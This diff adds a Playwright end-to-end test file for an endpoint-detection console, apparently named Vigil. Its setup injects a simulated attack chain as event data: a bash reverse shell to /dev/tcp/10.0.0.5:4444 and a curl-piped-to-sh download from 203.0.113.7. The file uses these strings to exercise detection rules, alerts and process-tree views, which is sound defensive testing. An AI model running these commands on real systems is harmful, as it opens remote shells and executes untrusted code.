@@ -1,0 +1,465 @@
+// The management console in a real browser (Debian's chromium) against a real server and a real in-process agent
+// whose source emits injected events: login, overview charts, hosts, hunt (inline errors, rows, charts, autocomplete),
+// process tree, alert triage, keyboard-only use, role-based hiding, session expiry, CSP and no console errors.
+
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+import type { Browser, Page } from 'playwright-core';
+import { ADMIN_PASSWORD, ApiClient, cleanup, request, waitFor, type ServerHandle } from '../harness.js';
+import { activity, launchBrowser, login, openTab, processStart, screenshotPath, startConsoleServer, startInjectedAgent, uniqueId, visit, type ConsoleTab, type InjectedAgent } from './browser.js';
+
+let server: ServerHandle;
+let api: ApiClient;
+let browser: Browser;
+let agent: InjectedAgent;
+let admin: ConsoleTab;
+const marker = `vigil-console-${uniqueId()}`;
+const REVERSE_SHELL = 'Shell Reverse Connection Through /dev/tcp or /dev/udp';
+const DOWNLOAD_TO_SHELL = 'Download Piped Into a Shell or Interpreter';
+const entity = { sshd: `sshd-${marker}`, bash: `bash-${marker}`, curl: `curl-${marker}` };
+
+before(async () => {
+  browser = await launchBrowser();
+  server = await startConsoleServer();
+  api = await new ApiClient(server).login();
+  agent = await startInjectedAgent(server, api, 'web-01');
+  agent.stats.lost = 3;
+  agent.stats.filtered = 7;
+  // A known attack chain: sshd → bash reverse shell (connects out, resolves a name, writes a file) → curl piped to sh.
+  await agent.emit([
+    processStart(entity.sshd, null, 900, '/usr/sbin/sshd', 'sshd -D'),
+    processStart(entity.bash, entity.sshd, 901, '/usr/bin/bash', `bash -c bash -i >& /dev/tcp/10.0.0.5/4444 0>&1 # ${marker}`),
+    activity(entity.bash, 901, 'dns', 'query', { 'dns.question.name': 'evil.example.com' }),
+    activity(entity.bash, 901, 'network', 'connect', { 'destination.ip': '10.0.0.5', 'destination.port': 4444, 'network.transport': 'tcp' }),
+    activity(entity.bash, 901, 'file', 'create', { 'file.path': '/tmp/.x.sh' }),
+    processStart(entity.curl, entity.bash, 902, '/usr/bin/curl', `curl -s http://203.0.113.7/x | sh # ${marker}`),
+    ...Array.from({ length: 30 }, (_, i) => processStart(`ls-${marker}-${i}`, entity.sshd, 1000 + i, '/usr/bin/ls', `ls -la /srv/${i} ${marker}`)),
+  ]);
+  await waitFor('both alerts', async () => {
+    const alerts = (await api.get(`/api/v1/alerts?host_id=${agent.agentId}`)).body as { ruleTitle: string }[];
+    return [REVERSE_SHELL, DOWNLOAD_TO_SHELL].every((t) => alerts.some((a) => a.ruleTitle === t)) || undefined;
+  }, 15_000);
+  admin = await openTab(browser, server);
+  await login(admin.page);
+});
+
+after(async () => {
+  await browser?.close();
+  await agent?.stop();
+  await cleanup();
+});
+
+async function shot(page: Page, name: string): Promise<void> {
+  const path = screenshotPath(name);
+  if (path) await page.screenshot({ path });
+}
+
+/** An attribute of the focused element (page code given as text: this project has no DOM types). */
+function activeAttribute(page: Page, name: string): Promise<string | null> {
+  return page.evaluate<string | null>(`document.activeElement ? document.activeElement.getAttribute(${JSON.stringify(name)}) : null`);
+}
+
+async function alertsOfHost(): Promise<{ id: string; ruleTitle: string; status: string; assignee: string | null }[]> {
+  return (await api.get(`/api/v1/alerts?host_id=${agent.agentId}&limit=100`)).body;
+}
+
+test('the console is served with a strict CSP, security headers, long-cached hashed assets and an SPA fallback', async () => {
+  const index = await request(`${server.apiUrl}/`, { ca: server.caPem });
+  assert.equal(index.status, 200);
+  assert.match(String(index.headers['content-type']), /^text\/html/);
+  const csp = String(index.headers['content-security-policy']);
+  for (const directive of ["default-src 'none'", "script-src 'self'", "style-src 'self'", "frame-ancestors 'none'", "object-src 'none'", "base-uri 'none'"]) assert.ok(csp.includes(directive), `CSP has ${directive}: ${csp}`);
+  assert.ok(!csp.includes('unsafe-inline') && !csp.includes('unsafe-eval'), csp);
+  assert.equal(index.headers['x-content-type-options'], 'nosniff');
+  assert.equal(index.headers['x-frame-options'], 'DENY');
+  assert.equal(index.headers['cache-control'], 'no-store');
+  assert.doesNotMatch(index.text, /<script(?![^>]*\bsrc=)[^>]*>/, 'no inline script in index.html');
+  assert.match(index.text, /<meta name="vigil-session" content="none">/);
+
+  const client = await request(`${server.apiUrl}/hosts/some-host?tab=timeline`, { ca: server.caPem });
+  assert.equal(client.status, 200);
+  assert.equal(client.text, index.text, 'client routes answer the console page');
+
+  const script = /<script[^>]+src="(\/assets\/[^"]+\.js)"/.exec(index.text)?.[1];
+  const style = /<link[^>]+href="(\/assets\/[^"]+\.css)"/.exec(index.text)?.[1];
+  assert.ok(script && style, index.text);
+  const js = await request(`${server.apiUrl}${script}`, { ca: server.caPem });
+  assert.equal(js.status, 200);
+  assert.equal(js.headers['content-type'], 'text/javascript; charset=utf-8');
+  assert.equal(js.headers['cache-control'], 'public, max-age=31536000, immutable');
+  assert.equal(js.headers['x-content-type-options'], 'nosniff');
+  const css = await request(`${server.apiUrl}${style}`, { ca: server.caPem });
+  assert.equal(css.headers['content-type'], 'text/css; charset=utf-8');
+  const icon = await request(`${server.apiUrl}/favicon.svg`, { ca: server.caPem });
+  assert.equal(icon.headers['content-type'], 'image/svg+xml');
+
+  for (const path of ['/assets/missing-0000.js', '/assets/..%2Findex.html', '/assets/.hidden.js', '/some/page.php', '/api/v1/no-such-route', '/agent/v1/events']) {
+    const reply = await request(`${server.apiUrl}${path}`, { ca: server.caPem });
+    assert.equal(reply.status, 404, `${path} → ${reply.status}`);
+    assert.equal(reply.body.error.code, 'not_found', path);
+  }
+  const metrics = await request(`${server.apiUrl}/metrics`, { ca: server.caPem });
+  assert.equal(metrics.status, 401, 'API routes keep their own answers');
+});
+
+test('login with a wrong password is refused in place; the right one shows the user and role; logout returns to the form', async () => {
+  const tab = await openTab(browser, server);
+  const { page } = tab;
+  await page.goto('/');
+  await page.getByLabel('User name').fill('admin');
+  await page.getByLabel('Password').fill('not-the-password');
+  await page.getByRole('button', { name: 'Log in' }).click();
+  await page.getByTestId('login-error').waitFor();
+  assert.match((await page.getByTestId('login-error').textContent()) ?? '', /wrong user name or password/);
+  assert.equal(await page.getByTestId('role').count(), 0);
+  await page.getByLabel('Password').fill(ADMIN_PASSWORD);
+  await page.getByRole('button', { name: 'Log in' }).click();
+  await page.getByTestId('role').waitFor();
+  assert.equal(await page.getByTestId('role').textContent(), 'admin');
+  assert.match((await page.getByTestId('who').textContent()) ?? '', /admin/);
+  await page.locator('#page-title', { hasText: 'Overview' }).waitFor();
+  const problems = tab.takeProblems().filter((p) => !/status of 401/.test(p));
+  assert.deepEqual(problems, [], 'only the refused login logged an error');
+  await page.getByRole('button', { name: 'Log out' }).click();
+  await page.getByText('You are logged out.').waitFor();
+  const me = await page.evaluate<number>("fetch('/api/v1/auth/me').then((r) => r.status)");
+  assert.equal(me, 401, 'the session ended on the server');
+  await tab.context.close();
+});
+
+test('the overview charts alerts by severity over time, top rules and hosts, host states and agent health from injected data', async () => {
+  const { page } = admin;
+  await visit(page, '/', 'Overview');
+  const high = page.locator('[data-chart="alerts-over-time"] rect[data-series="high"]');
+  await high.first().waitFor();
+  const highTotal = (await high.evaluateAll((rects) => rects.map((r) => Number(r.getAttribute('data-value'))))).reduce((a, b) => a + b, 0);
+  assert.ok(highTotal >= 1, `high alerts charted: ${highTotal}`);
+  assert.ok((await page.locator('[data-chart="alerts-over-time"] rect[data-series="medium"]').count()) >= 1, 'medium alerts charted');
+  await page.locator('[data-chart="open-by-level"] [data-segment="high"]').waitFor();
+  const topRules = await page.locator('[data-chart="top-rules"] a').evaluateAll((links) => links.map((a) => a.getAttribute('aria-label')));
+  assert.ok(topRules.some((label) => label?.startsWith(REVERSE_SHELL)), JSON.stringify(topRules));
+  const topHosts = await page.locator('[data-chart="top-hosts"] a').evaluateAll((links) => links.map((a) => a.getAttribute('aria-label')));
+  assert.ok(topHosts.some((label) => label?.startsWith('web-01:')), JSON.stringify(topHosts));
+  await waitFor('host states', async () => ((await page.locator('[data-chart="host-states"] [data-segment="online"]').getAttribute('data-value')) === '1' ? true : undefined));
+  const events = Number(await page.locator('[data-chart="events-over-time"] path[data-series="events"]').getAttribute('data-total'));
+  assert.ok(events >= 36, `events charted: ${events}`);
+  const row = page.getByTestId('agent-health').locator('tr', { hasText: 'web-01' });
+  await waitFor('lost and filtered events from the heartbeat', async () => ((await row.getByTestId('health-lost').textContent()) === '3' ? true : undefined), 10_000);
+  assert.equal(await row.getByTestId('health-filtered').textContent(), '7');
+  assert.equal(await page.getByTestId('stat-lost').locator('.stat-value').textContent(), '3');
+  await shot(page, 'overview');
+});
+
+test('the hosts page lists the enrolled agent; its host page shows the timeline and processes', async () => {
+  const { page } = admin;
+  await visit(page, '/hosts', 'Hosts');
+  const row = page.locator(`[data-host-id="${agent.agentId}"]`);
+  await row.waitFor();
+  assert.match((await row.textContent()) ?? '', /web-01.*online/s);
+  await page.getByPlaceholder(/Search by name/).fill('no-such-host-anywhere');
+  await row.waitFor({ state: 'detached' });
+  await page.getByPlaceholder(/Search by name/).fill('web');
+  await row.waitFor();
+  await shot(page, 'hosts');
+  await row.getByRole('link', { name: 'web-01' }).click();
+  await page.locator('#page-title', { hasText: 'web-01' }).waitFor();
+  const timeline = page.getByRole('grid', { name: 'Host timeline' });
+  await timeline.getByText(`curl -s http://203.0.113.7/x | sh # ${marker}`).waitFor();
+  await page.getByRole('tab', { name: 'Processes' }).click();
+  await page.getByRole('grid', { name: 'Processes' }).getByText(`ls -la /srv/3 ${marker}`).waitFor();
+  await shot(page, 'host');
+});
+
+test('a hunt with a syntax error shows the error inline at its column', async () => {
+  const { page } = admin;
+  await visit(page, '/hunt', 'Hunt');
+  const editor = page.getByLabel('Hunt query');
+  await editor.fill('process where proces.name == "bash"');
+  await editor.press('Control+Enter');
+  const error = page.getByTestId('hunt-error');
+  await error.waitFor();
+  assert.equal(await error.getAttribute('data-line'), '1');
+  assert.equal(await error.getAttribute('data-column'), '15');
+  assert.match((await error.textContent()) ?? '', /unknown field "proces\.name".*did you mean "process\.name"/);
+  const mark = page.getByTestId('hunt-error-mark');
+  assert.equal(await mark.textContent(), 'proces.name');
+  assert.equal(await mark.getAttribute('data-offset'), '14');
+  // The mark lies under the misspelt word: to the right of "process where " and left of the rest.
+  const [markBox, editorBox] = [await mark.boundingBox(), await editor.boundingBox()];
+  assert.ok(markBox && editorBox && markBox.x > editorBox.x + 50 && markBox.x < editorBox.x + 300 && Math.abs(markBox.y - editorBox.y) < 30, JSON.stringify({ markBox, editorBox }));
+  assert.equal(await editor.getAttribute('aria-invalid'), 'true');
+  // A query ending too early points past its end.
+  await editor.fill('process where process.name ==');
+  await page.getByRole('button', { name: 'Run hunt' }).click();
+  await waitFor('the end-of-query error', async () => ((await error.getAttribute('data-column')) === '30' ? true : undefined));
+  assert.equal(await page.getByTestId('hunt-error-mark').getAttribute('data-offset'), '29');
+  await shot(page, 'hunt-error');
+  assert.ok(admin.takeProblems().every((p) => /status of 400/.test(p)), 'only the refused queries logged errors');
+});
+
+test('a valid hunt renders its rows; stats and timechart render charts', async () => {
+  const { page } = admin;
+  await visit(page, '/hunt', 'Hunt');
+  const editor = page.getByLabel('Hunt query');
+  await editor.fill(`process where process.command_line contains "${marker}" and process.name == "ls"`);
+  await editor.press('Control+Enter');
+  const results = page.locator('[data-testid="hunt-results"][data-kind="events"]');
+  await results.waitFor();
+  assert.equal(await results.getAttribute('data-rows'), '30');
+  const grid = page.getByRole('grid', { name: 'Hunt results' });
+  await grid.getByText(`ls -la /srv/7 ${marker}`).waitFor();
+  await grid.getByRole('row').nth(3).click();
+  await page.getByTestId('event-details').waitFor();
+  assert.match((await page.getByTestId('event-details').textContent()) ?? '', /process\.command_line/);
+  await page.getByRole('button', { name: 'Close' }).click();
+
+  await editor.fill(`process where process.command_line contains "${marker}" | stats count() as n by process.name | sort n desc`);
+  await editor.press('Control+Enter');
+  await page.locator('[data-testid="hunt-results"][data-kind="stats"]').waitFor();
+  const bars = await page.locator('[data-chart="hunt-stats"] rect[data-bar]').evaluateAll((rects) => rects.map((r) => Number(r.getAttribute('data-value'))));
+  assert.deepEqual(bars, [30, 1, 1, 1]);
+  await shot(page, 'hunt-stats');
+
+  await editor.fill(`process where process.command_line contains "${marker}" | timechart span=1m count() by process.name`);
+  await editor.press('Control+Enter');
+  await page.locator('[data-testid="hunt-results"][data-kind="timechart"]').waitFor();
+  const series = await page.locator('[data-chart="hunt-timechart"] [data-series]').evaluateAll((els) => [...new Set(els.map((e) => e.getAttribute('data-series')))].sort());
+  assert.deepEqual(series, ['bash', 'curl', 'ls', 'sshd']);
+  assert.deepEqual(admin.takeProblems(), []);
+});
+
+test('the query editor suggests schema fields and pipes; Tab accepts a suggestion', async () => {
+  const { page } = admin;
+  await visit(page, '/hunt', 'Hunt');
+  const editor = page.getByLabel('Hunt query');
+  await editor.fill('');
+  await editor.pressSequentially('process where process.comm');
+  const suggestions = page.getByTestId('suggestions');
+  await suggestions.getByText('process.command_line', { exact: true }).waitFor();
+  await editor.press('Tab');
+  assert.equal(await editor.inputValue(), 'process where process.command_line ');
+  await editor.pressSequentially('contains "x" | st');
+  await suggestions.getByText('stats', { exact: true }).waitFor();
+  await editor.press('Enter');
+  assert.equal(await editor.inputValue(), 'process where process.command_line contains "x" | stats ');
+  await editor.press('Escape');
+  assert.equal(await suggestions.count(), 0);
+});
+
+test('the process tree of the alert renders the known chain with its connection, DNS name and file; nodes open their details', async () => {
+  const { page } = admin;
+  const alert = (await alertsOfHost()).find((a) => a.ruleTitle === REVERSE_SHELL)!;
+  await visit(page, `/alerts/${alert.id}`, REVERSE_SHELL);
+  const graph = page.getByTestId('process-graph');
+  await graph.locator('[data-kind="process"]').first().waitFor();
+  const nodes = await graph.locator('[data-node]').evaluateAll((els) => els.map((e) => `${e.getAttribute('data-kind')}:${e.textContent}`));
+  for (const expected of ['process:sshd (900)', 'process:bash (901)', 'process:curl (902)', 'network:10.0.0.5:4444', 'dns:evil.example.com', 'file:.x.sh']) {
+    assert.ok(nodes.some((n) => n.startsWith(expected)), `${expected} in ${JSON.stringify(nodes)}`);
+  }
+  assert.equal(await graph.locator('.graph-highlight').getAttribute('data-node'), entity.bash, 'the alert process is highlighted');
+  await graph.locator(`[data-node="${entity.curl}"]`).click();
+  assert.match((await page.getByTestId('graph-details').textContent()) ?? '', /curl -s http:\/\/203\.0\.113\.7\/x \| sh/);
+  const transform = () => graph.locator('svg > g').getAttribute('transform');
+  const before_ = await transform();
+  await graph.getByRole('button', { name: 'Zoom in' }).click();
+  assert.notEqual(await transform(), before_, 'zoom changes the view');
+  await graph.locator(`[data-node="${entity.sshd}"]`).focus();
+  await page.keyboard.press('Enter');
+  assert.match((await page.getByTestId('graph-details').textContent()) ?? '', /sshd -D/);
+  await shot(page, 'alert-process-tree');
+  // Any process opens its tree from the host's processes: the same graph from the root of the chain.
+  await visit(page, `/hosts/${agent.agentId}/processes/${entity.sshd}`, 'Process tree');
+  await graph.locator(`[data-node="${entity.curl}"]`).waitFor();
+  assert.equal(await graph.locator('[data-kind="process"]').count(), 33, 'sshd, bash, curl and 30 ls');
+  assert.deepEqual(admin.takeProblems(), []);
+});
+
+test('alert triage changes status per alert, in bulk and on the alert page', async () => {
+  const { page } = admin;
+  const alerts = await alertsOfHost();
+  const shell = alerts.find((a) => a.ruleTitle === REVERSE_SHELL)!;
+  await visit(page, '/alerts', 'Alerts');
+  await page.locator(`[data-alert-id="${shell.id}"]`).getByTestId('row-status').selectOption('acknowledged');
+  await waitFor('the status change', async () => ((await alertsOfHost()).find((a) => a.id === shell.id)?.status === 'acknowledged' ? true : undefined));
+  await page.getByRole('checkbox', { name: 'Select all shown alerts' }).check();
+  await page.getByTestId('bulk-status').selectOption('in_progress');
+  await page.getByTestId('bulk-apply').click();
+  await waitFor('the bulk change', async () => ((await alertsOfHost()).every((a) => a.status === 'in_progress') ? true : undefined));
+  await page.getByRole('tab', { name: /Incidents/ }).click();
+  const incident = page.getByTestId('incident').filter({ hasText: 'web-01' });
+  await incident.waitFor();
+  assert.match((await incident.textContent()) ?? '', /2 alerts/);
+  await shot(page, 'alerts');
+  await visit(page, `/alerts/${shell.id}`, REVERSE_SHELL);
+  await page.getByLabel('Status').selectOption('resolved');
+  await page.getByLabel('Assignee').fill('alice');
+  await page.getByRole('button', { name: 'Save triage' }).click();
+  await waitFor('the triage', async () => {
+    const a = (await alertsOfHost()).find((x) => x.id === shell.id);
+    return a?.status === 'resolved' && a.assignee === 'alice' ? true : undefined;
+  });
+  assert.deepEqual(admin.takeProblems(), []);
+});
+
+const navigation: [string, string, string][] = [
+  ['o', 'overview', 'Overview'],
+  ['h', 'hosts', 'Hosts'],
+  ['a', 'alerts', 'Alerts'],
+  ['t', 'hunt', 'Hunt'],
+  ['s', 'sweeps', 'IOC sweeps'],
+  ['r', 'rules', 'Rules'],
+  ['i', 'integrations', 'Integrations'],
+  ['u', 'users', 'Users and access'],
+  ['l', 'audit', 'Audit log'],
+];
+
+test('keyboard only: Tab reaches every page link in order, Enter opens it, g-shortcuts and / work, ? shows help', async () => {
+  const { page } = admin;
+  await visit(page, '/', 'Overview');
+  await page.locator('body').focus();
+  const reached: string[] = [];
+  for (let i = 0; i < 40 && reached.length < navigation.length; i++) {
+    await page.keyboard.press('Tab');
+    const nav = await activeAttribute(page, 'data-nav');
+    if (nav && !reached.includes(nav)) reached.push(nav);
+  }
+  assert.deepEqual(reached, navigation.map(([, id]) => id), 'Tab order reaches each page link in order');
+  // Enter on a focused link opens its page and moves focus to the page heading.
+  await page.locator('[data-nav="rules"]').focus();
+  await page.keyboard.press('Enter');
+  await page.locator('#page-title', { hasText: 'Rules' }).waitFor();
+  await waitFor('focus on the heading', async () => ((await activeAttribute(page, 'id')) === 'page-title' ? true : undefined));
+  const focusStyle = await page.evaluate<string>('getComputedStyle(document.activeElement).outlineStyle');
+  assert.notEqual(focusStyle, 'none', 'the focused heading shows a focus ring');
+  for (const [key, , title] of navigation) {
+    await page.locator('#page-title').focus();
+    await page.keyboard.press('g');
+    await page.keyboard.press(key);
+    await page.locator('#page-title', { hasText: new RegExp(`^${title}$`) }).waitFor();
+  }
+  await page.keyboard.press('g');
+  await page.keyboard.press('h');
+  await page.locator('#page-title', { hasText: 'Hosts' }).waitFor();
+  await page.keyboard.press('/');
+  assert.equal(await activeAttribute(page, 'type'), 'search', '/ focuses the search field');
+  await page.keyboard.press('Escape');
+  await page.keyboard.press('?');
+  const help = page.getByRole('dialog', { name: 'Keyboard shortcuts' });
+  await help.waitFor();
+  await page.keyboard.press('Escape');
+  await help.waitFor({ state: 'detached' });
+  assert.deepEqual(admin.takeProblems(), []);
+});
+
+test('a viewer sees the data but no response, triage or edit actions, and no admin pages', async () => {
+  const created = await api.post('/api/v1/users', { username: 'viewer1', password: 'viewer-password-0123', role: 'viewer' });
+  assert.equal(created.status, 200, JSON.stringify(created.body));
+  const tab = await openTab(browser, server);
+  const { page } = tab;
+  await login(page, 'viewer1', 'viewer-password-0123');
+  assert.equal(await page.getByTestId('role').textContent(), 'viewer');
+  const nav = await page.locator('[data-nav]').evaluateAll((links) => links.map((a) => a.getAttribute('data-nav')));
+  assert.deepEqual(nav, ['overview', 'hosts', 'alerts', 'hunt', 'sweeps', 'rules', 'integrations']);
+  const none = async (what: string, locator: ReturnType<Page['locator']>) => assert.equal(await locator.count(), 0, `viewer sees no ${what}`);
+
+  await visit(page, '/hosts', 'Hosts');
+  await page.locator(`[data-host-id="${agent.agentId}"]`).waitFor();
+  await none('Add hosts button', page.getByRole('button', { name: /Add hosts/ }));
+  await visit(page, `/hosts/${agent.agentId}`, 'web-01');
+  await page.getByRole('grid', { name: 'Host timeline' }).getByRole('row').nth(2).waitFor();
+  await none('revoke button', page.getByRole('button', { name: /Revoke/ }));
+  await none('response actions', page.getByRole('button', { name: /Isolate|Release|Kill|Quarantine|Run action/i }));
+  await visit(page, '/alerts?status=all', 'Alerts');
+  await page.getByTestId('alerts-table').waitFor();
+  await none('status selects', page.getByTestId('row-status'));
+  await none('selection checkboxes', page.getByRole('checkbox'));
+  await none('bulk actions', page.getByTestId('bulk-apply'));
+  const alert = (await alertsOfHost())[0]!;
+  await visit(page, `/alerts/${alert.id}`);
+  await page.getByTestId('process-graph').waitFor();
+  await none('triage form', page.getByRole('button', { name: 'Save triage' }));
+  await visit(page, '/rules', 'Rules');
+  await page.getByTestId('rules-table').waitFor();
+  await none('New rule button', page.getByRole('button', { name: 'New rule' }));
+  await none('enable switches', page.getByRole('switch'));
+  await visit(page, '/rules/0c071acc-8823-4eb5-ba7c-4303224176ef', REVERSE_SHELL);
+  await none('Save or Disable', page.getByRole('button', { name: /^(Save|Disable|Delete…)$/ }));
+  assert.equal(await page.locator('#rule-text').getAttribute('readonly'), '');
+  await visit(page, '/hunt', 'Hunt');
+  await none('Save hunt button', page.getByRole('button', { name: 'Save…' }));
+  await visit(page, '/integrations', 'Integrations');
+  await none('Add destination', page.getByRole('button', { name: /Add destination/ }));
+  await visit(page, '/users', 'Not allowed');
+  await shot(page, 'viewer-alerts');
+  assert.deepEqual(tab.takeProblems(), []);
+  await tab.context.close();
+});
+
+test('an expired session returns to the login form and back to the same page after logging in again', async () => {
+  const tab = await openTab(browser, server);
+  const { page } = tab;
+  await login(page);
+  await visit(page, '/rules', 'Rules');
+  // End the browser's session on the server, as expiry would.
+  const cookie = (await tab.context.cookies()).find((c) => c.name === 'vigil_session')!;
+  const ended = await request(`${server.apiUrl}/api/v1/auth/logout`, { body: {}, token: cookie.value, ca: server.caPem });
+  assert.equal(ended.status, 200);
+  await page.locator('[data-nav="alerts"]').click();
+  await page.getByTestId('session-expired').waitFor();
+  assert.equal(new URL(page.url()).pathname, '/alerts', 'the URL keeps the page');
+  await page.getByLabel('User name').fill('admin');
+  await page.getByLabel('Password').fill(ADMIN_PASSWORD);
+  await page.getByRole('button', { name: 'Log in' }).click();
+  await page.locator('#page-title', { hasText: 'Alerts' }).waitFor();
+  assert.ok(tab.takeProblems().every((p) => /status of 401/.test(p)), 'only the refused calls logged errors');
+  await tab.context.close();
+});
+
+test('every page loads without console errors, page errors or CSP violations', async () => {
+  const { page } = admin;
+  const alert = (await alertsOfHost())[0]!;
+  const sweep = await api.post('/api/v1/sweeps', { indicators: [{ type: 'ip', value: '10.0.0.5' }] });
+  assert.equal(sweep.status, 202, JSON.stringify(sweep.body));
+  const pages: [string, string | RegExp][] = [
+    ['/', 'Overview'],
+    ['/hosts', 'Hosts'],
+    ['/hosts?group=os', 'Hosts'],
+    [`/hosts/${agent.agentId}`, 'web-01'],
+    [`/hosts/${agent.agentId}?tab=processes`, 'web-01'],
+    [`/hosts/${agent.agentId}?tab=connections`, 'web-01'],
+    [`/hosts/${agent.agentId}?tab=alerts`, 'web-01'],
+    [`/hosts/${agent.agentId}/processes/${entity.bash}`, 'Process tree'],
+    ['/alerts', 'Alerts'],
+    ['/alerts?view=incidents&status=all', 'Alerts'],
+    [`/alerts/${alert.id}`, alert.ruleTitle],
+    ['/hunt', 'Hunt'],
+    ['/hunt?tab=saved', 'Hunt'],
+    ['/sweeps', 'IOC sweeps'],
+    [`/sweeps/${sweep.body.id}`, 'IOC sweeps'],
+    ['/rules', 'Rules'],
+    ['/rules?tab=packs', 'Rules'],
+    ['/rules?tab=problems', 'Rules'],
+    ['/rules/0c071acc-8823-4eb5-ba7c-4303224176ef', REVERSE_SHELL],
+    ['/rules/new', 'New rule'],
+    ['/integrations', 'Integrations'],
+    ['/users', 'Users and access'],
+    ['/audit', 'Audit log'],
+    ['/no/such/page', 'Not found'],
+  ];
+  admin.takeProblems();
+  for (const [path, title] of pages) {
+    await visit(page, path, title);
+    await page.waitForLoadState('networkidle');
+    assert.deepEqual(admin.takeProblems(), [], `problems on ${path}`);
+    const csp = await page.evaluate<string | null>("fetch(location.href).then((r) => r.headers.get('content-security-policy'))");
+    assert.ok(csp?.includes("script-src 'self'"), `CSP on ${path}`);
+  }
+  await visit(page, `/sweeps/${sweep.body.id}`, 'IOC sweeps');
+  await page.getByTestId('sweep-results').getByText('10.0.0.5').waitFor();
+  await shot(page, 'sweeps');
+  for (const [path, name] of [['/rules', 'rules'], ['/integrations', 'integrations'], ['/users', 'users'], ['/audit', 'audit']] as const) {
+    await visit(page, path);
+    await page.waitForLoadState('networkidle');
+    await shot(page, name);
+  }
+});
